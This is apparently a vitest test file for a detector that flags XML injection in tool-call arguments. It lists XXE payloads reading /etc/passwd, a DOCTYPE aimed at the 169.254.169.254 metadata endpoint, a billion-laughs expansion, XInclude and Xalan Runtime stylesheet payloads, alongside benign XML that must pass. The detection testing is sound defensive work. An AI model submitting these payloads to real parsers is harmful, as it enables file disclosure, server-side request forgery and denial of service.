import { describe, expect, it } from 'vitest';
import { createInspector } from '../../src/inspect/create-inspector.js';
import type { Surface } from '../../src/inspect/inspector.js';
import type { Finding } from '../../src/pdp/input-document.js';
import type { JsonObject } from '../../src/protocol/json/json.js';

const inspector = createInspector();

function found(value: JsonObject, surface: Surface = 'arguments'): readonly Finding[] {
  const seen = inspector.inspect({ surface, method: 'tools/call', tool: 'render', value, root: '/arguments', pathArguments: [] });
  expect(seen.complete).toBe(true);
  return seen.findings.filter(({ detector }) => detector === 'xml_injection');
}
const said = (value: JsonObject) => found(value).map(({ rule, confidence }) => `${rule.slice('xml_injection.'.length)}:${confidence}`);

const DOCTYPE = '<?xml version="1.0"?><!DOCTYPE r [';

describe('XML declarations', () => {
  it.each([
    ['a file', { document: `${DOCTYPE}<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>` }, 'external_entity:high'],
    ['a URL by a parameter entity', { document: `${DOCTYPE}<!ENTITY % x SYSTEM "http://a.example/x.dtd"> %x;]>` }, 'external_entity:high'],
    ['a public identifier', { document: `${DOCTYPE}<!ENTITY x PUBLIC "a" "file:///etc/passwd">]>` }, 'external_entity:high'],
    ['a subset from a file', { document: '<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>' }, 'external_subset:high'],
    ['a subset from the metadata', { document: '<!DOCTYPE r SYSTEM "http://169.254.169.254/latest"><r/>' }, 'external_subset:high'],
    ['laughs', { document: `${DOCTYPE}<!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>` }, 'entity_expansion:high'],
    [
      'an inclusion',
      { document: '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>' },
      'inclusion:high',
    ],
    [
      'code in a stylesheet',
      { document: '<xsl:stylesheet xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">' },
      'stylesheet_code:high',
    ],
    ['a file in a stylesheet', { document: '<xsl:copy-of select="document(\'file:///etc/passwd\')"/>' }, 'stylesheet_code:high'],
    ['the same, encoded', { document: '%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E' }, 'external_entity:high'],
    ['prose about it', { body: 'An attacker sends <!ENTITY x SYSTEM "file:///etc/passwd">.' }, 'external_entity:medium'],
    ['a file that is written', { content: `${DOCTYPE}<!ENTITY x SYSTEM "chapter.xml">]>` }, 'external_entity:medium'],
  ])('finds %s', (_, value, rule) => {
    expect(said(value)).toContain(rule);
  });

  it.each([
    ['a page', { document: '<!DOCTYPE html><html></html>' }],
    [
      'a property list',
      { document: '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>' },
    ],
    ['a DTD of its own', { document: '<!DOCTYPE note SYSTEM "note.dtd"><note/>' }],
    ['an entity that is a word', { document: `${DOCTYPE}<!ENTITY company "Example &amp; Co">]><r/>` }],
    ['an inclusion beside it', { document: '<xi:include href="chapter1.xml"/>' }],
    [
      'a picture',
      { document: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="a.png"/></svg>' },
    ],
  ])('lets %s pass', (_, value) => {
    expect(said(value)).toEqual([]);
  });

  it('reads no answers', () => {
    expect(found({ document: `${DOCTYPE}<!ENTITY x SYSTEM "file:///etc/passwd">]>` }, 'result')).toEqual([]);
  });
});
